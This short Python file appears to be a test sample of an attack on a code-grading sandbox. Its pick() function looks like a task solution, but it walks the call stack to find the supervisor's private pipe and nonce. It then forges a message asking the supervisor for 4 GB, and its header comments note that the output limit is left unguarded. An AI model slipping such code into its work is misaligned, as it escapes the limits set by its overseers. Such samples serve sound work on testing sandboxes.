# claims: has the supervisor make room for 4 GB, in a frame that is right
# kind: writes to the supervisor's pipe
# unguarded: output_limit; armed

import os
import sys


def find_pipe():
    frame = sys._getframe()
    while "pipe" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["pipe"]


def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    os.write(1, find_pipe().nonce + b"M" + b"\xff" * 4)
    return numbers.index(min(numbers))
